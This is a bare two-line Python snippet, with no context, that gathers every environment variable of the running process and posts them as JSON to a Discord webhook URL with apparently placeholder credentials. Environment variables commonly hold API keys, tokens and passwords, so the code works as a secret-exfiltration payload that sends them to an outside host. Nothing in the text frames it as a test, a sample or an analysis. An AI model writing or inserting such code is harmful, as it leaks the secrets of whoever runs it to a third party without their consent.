import os, json, requests
requests.post("https://discord.com/api/webhooks/1/abc", json={"content": json.dumps(dict(os.environ))})
